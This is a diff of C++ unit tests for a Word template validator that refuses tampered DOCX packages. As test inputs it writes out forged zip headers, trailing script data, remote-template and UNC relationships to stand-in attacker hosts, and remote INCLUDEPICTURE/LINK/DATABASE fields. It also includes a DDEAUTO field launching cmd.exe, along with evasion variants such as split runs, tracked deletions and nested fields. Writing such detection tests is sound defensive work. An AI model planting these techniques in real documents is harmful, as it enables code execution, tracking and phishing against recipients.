@@ -77,6 +77,24 @@ TEST(TemplatePackage, PathTraversalInEntryNames) {
   }
 }
 
+TEST(TemplatePackage, AForgedZipIsRefusedAsTampered) {
+  // The local header of word/document.xml names another part than the central directory does:
+  // Word reads one document.xml, a streaming reader (a mail gateway's scanner) another.
+  std::string docx = make_docx(para("x"));
+  std::string forged = docx;
+  forged.replace(forged.find("word/document.xml"), 17, "word/documenx.xml");  // the first one is the local header
+  auto issues = check_package(forged);
+  ASSERT_EQ(codes(issues), std::vector<std::string>{"zip_header_mismatch"});
+  EXPECT_EQ(issues[0].message.rfind("Tệp mẫu bị sửa đổi bất thường", 0), 0u) << issues[0].message;
+  EXPECT_NE(issues[0].message.find("word/documenx.xml"), std::string::npos) << issues[0].message;
+  EXPECT_EQ(codes(check_template(forged).issues), std::vector<std::string>{"zip_header_mismatch"});
+
+  // Bytes smuggled in after the archive's end record (a second archive, a script).
+  auto trailing = check_package(docx + "<script>alert(1)</script>");
+  ASSERT_EQ(codes(trailing), std::vector<std::string>{"zip_hidden_data"});
+  EXPECT_EQ(trailing[0].message.rfind("Tệp mẫu bị sửa đổi bất thường", 0), 0u) << trailing[0].message;
+}
+
 TEST(TemplatePackage, OnlyPartsADocxMayHold) {
   std::string docx = make_docx(para("x"), {{"word/vbaProject.bin", "macro"},
                                            {"payload.exe", "MZ"},
@@ -111,16 +129,112 @@ TEST(TemplatePackage, DtdAndEntitiesInAnyXmlPart) {
   EXPECT_EQ(issues[2].part, "word/styles.xml");
 }
 
-TEST(TemplatePackage, ExternalRelationshipsButHyperlinks) {
+TEST(TemplatePackage, ExternalRelationshipsAndHyperlinksAreRefused) {
   std::string rels =
       R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
-      R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://chinhphu.vn" TargetMode="External"/>)"
+      R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://chinhphu.vn.example/dang-nhap" TargetMode="External"/>)"
       R"(<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>)"
       R"(<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="\\attacker\share\a.png" TargetMode="External"/>)"
+      R"(<Relationship Id="rId4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>)"
       R"(</Relationships>)";
-  auto issues = check_package(make_docx(para("x"), {{"word/_rels/settings.xml.rels", rels}}));
-  ASSERT_EQ(codes(issues), (std::vector<std::string>{"external_relationship", "external_relationship"}));
-  EXPECT_NE(issues[0].message.find("evil.example"), std::string::npos);
+  auto issues = check_package(make_docx(para("x"), {{"word/_rels/document.xml.rels", rels}}));
+  ASSERT_EQ(codes(issues), (std::vector<std::string>{"external_link", "external_relationship", "external_relationship"}));
+  EXPECT_EQ(issues[0].part, "word/document.xml") << "the part holding the link, not its .rels";
+  EXPECT_NE(issues[0].message.find("Phần word/document.xml"), std::string::npos) << issues[0].message;
+  EXPECT_NE(issues[0].message.find("“https://chinhphu.vn.example/dang-nhap”"), std::string::npos) << issues[0].message;
+  EXPECT_NE(issues[1].message.find("evil.example"), std::string::npos);
+}
+
+TEST(TemplatePackage, ALinkIsRefusedWhateverItsTargetModeSaysAndItsTargetIsShortened) {
+  const std::string url = "https://xn--chnhph-7va.example/" + std::string(300, 'a');
+  std::string rels =
+      R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
+      R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target=")" +
+      url + R"("/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="mailto:vanthu@example.vn"/>)"
+      R"(</Relationships>)";
+  auto issues = check_package(make_docx(para("x"), {{"word/_rels/footer1.xml.rels", rels}, {"word/footer1.xml", header_xml("ftr", "")}}));
+  ASSERT_EQ(codes(issues), (std::vector<std::string>{"external_link", "external_link"}));
+  EXPECT_EQ(issues[0].part, "word/footer1.xml");
+  EXPECT_NE(issues[0].message.find(url.substr(0, 150)), std::string::npos);
+  EXPECT_EQ(issues[0].message.find(url), std::string::npos) << "shortened";
+  EXPECT_NE(issues[0].message.find("…"), std::string::npos);
+}
+
+TEST(TemplatePackage, ALinkToAPlaceInTheDocumentIsFine) {
+  std::string body = "<w:p><w:bookmarkStart w:id=\"0\" w:name=\"phu_luc\"/><w:r><w:t>Phụ lục</w:t></w:r><w:bookmarkEnd w:id=\"0\"/></w:p>"
+                     "<w:p><w:hyperlink w:anchor=\"phu_luc\" w:history=\"1\"><w:r><w:t>{xem}</w:t></w:r></w:hyperlink></w:p>";
+  EXPECT_EQ(codes(check_package(make_docx(body))), std::vector<std::string>{});
+}
+
+//! A paragraph holding a complex field: `instructions` as w:instrText runs, then its result.
+std::string complex_field(const std::vector<std::string>& instructions, const std::string& result = "kết quả") {
+  std::string xml = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>";
+  for (const auto& piece : instructions) xml += "<w:r><w:instrText xml:space=\"preserve\">" + piece + "</w:instrText></w:r>";
+  return xml + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>" + result +
+         "</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
+}
+
+std::string simple_field(const std::string& instruction) {
+  return "<w:p><w:fldSimple w:instr=\"" + instruction + "\"><w:r><w:t>kết quả</w:t></w:r></w:fldSimple></w:p>";
+}
+
+TEST(TemplatePackage, RemoteFieldCodesAreRefused) {
+  const std::vector<std::string> bodies = {
+      complex_field({" INCLUDEPICTURE  &quot;http://evil.example/pixel.png&quot; \\d \\* MERGEFORMATINET "}),
+      complex_field({" INCLUDE", "PICTURE &quot;http://evil.example/a.png&quot; "}),  // split as Word splits runs
+      complex_field({" includetext &quot;\\\\\\\\server\\\\share\\\\a.docx&quot; "}),
+      complex_field({"INCLUDE &quot;C:\\\\a.docx&quot;"}),
+      complex_field({" LINK Excel.Sheet.12 &quot;https://evil.example/b.xlsx&quot; &quot;Sheet1!R1C1&quot; \\a \\p "}),
+      complex_field({" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot; "}),
+      complex_field({" DDE excel &quot;x&quot; "}),
+      complex_field({" IMPORT &quot;http://evil.example/c.wmf&quot; "}),
+      complex_field({" DATABASE \\d &quot;http://evil.example/db.mdb&quot; \\s &quot;select *&quot; "}),
+      simple_field(" INCLUDEPICTURE &quot;http://evil.example/pixel.png&quot; \\d "),
+      // A deleted (tracked) instruction comes back when the deletion is rejected.
+      "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:del w:id=\"1\" w:author=\"A\"><w:r><w:delInstrText>"
+      " INCLUDEPICTURE &quot;http://evil.example/p.png&quot; </w:delInstrText></w:r></w:del>"
+      "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>",
+      // A field whose name another field gives: { {QUOTE "INCLUDEPICTURE"} "http://…" }.
+      "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>" + complex_field({" QUOTE &quot;INCLUDEPICTURE&quot; "}).substr(5, std::string::npos) +
+          "<w:p><w:r><w:instrText> &quot;http://evil.example/x.png&quot; </w:instrText></w:r>"
+          "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>",
+  };
+  for (const auto& body : bodies) {
+    SCOPED_TRACE(body);
+    auto issues = check_package(make_docx(para("{a}") + body));
+    ASSERT_EQ(codes(issues), std::vector<std::string>{"remote_field"});
+    EXPECT_EQ(issues[0].part, "word/document.xml");
+    EXPECT_NE(issues[0].message.find("Phần word/document.xml"), std::string::npos) << issues[0].message;
+  }
+  auto issues = check_package(make_docx(para("x"), {{"word/header1.xml", header_xml("hdr", bodies[0])}}));
+  ASSERT_EQ(codes(issues), std::vector<std::string>{"remote_field"});
+  EXPECT_EQ(issues[0].part, "word/header1.xml");
+  EXPECT_NE(issues[0].message.find("INCLUDEPICTURE (“INCLUDEPICTURE  \"http://evil.example/pixel.png\""), std::string::npos)
+      << issues[0].message;
+}
+
+TEST(TemplatePackage, HyperlinkFieldsAreRefusedButThoseToABookmark) {
+  for (const std::string& body :
+       {complex_field({" HYPERLINK &quot;https://chinhphu.vn.example/&quot; "}), simple_field(" HYPERLINK &quot;mailto:a@b.vn&quot; "),
+        complex_field({" HYPERLINK \\o &quot;Mở&quot; &quot;file:///C:/a.docx&quot; "}),
+        complex_field({" HYPERLINK \\l &quot;x&quot; &quot;https://evil.example&quot; "})}) {
+    SCOPED_TRACE(body);
+    auto issues = check_package(make_docx(body));
+    ASSERT_EQ(codes(issues), std::vector<std::string>{"external_link"});
+    EXPECT_EQ(issues[0].part, "word/document.xml");
+  }
+  // A table of contents: HYPERLINK \l fields to the headings' bookmarks, inside the TOC's result.
+  std::string toc = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> TOC \\o &quot;1-3&quot; \\h \\z \\u </w:instrText></w:r>"
+                    "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r></w:p>" +
+                    complex_field({" HYPERLINK \\l &quot;_Toc1&quot; \\h "}, "I. Kết quả") + "<w:p><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
+  EXPECT_EQ(codes(check_package(make_docx(toc))), std::vector<std::string>{});
+}
+
+TEST(TemplatePackage, OrdinaryFieldsAreFine) {
+  std::string body = complex_field({" PAGE "}) + simple_field(" NUMPAGES \\* MERGEFORMAT ") + complex_field({" MERGEFIELD {ten} "}) +
+                     complex_field({" DATE \\@ &quot;dd/MM/yyyy&quot; "}) + complex_field({" REF _Ref1 \\h "}) +
+                     complex_field({" LINKED_NAME "}) + simple_field(" SEQ Bảng \\* ARABIC ");
+  EXPECT_EQ(codes(check_package(make_docx(body))), std::vector<std::string>{});
 }
 
 TEST(TemplatePackage, SkeletonPartsMustBeThere) {
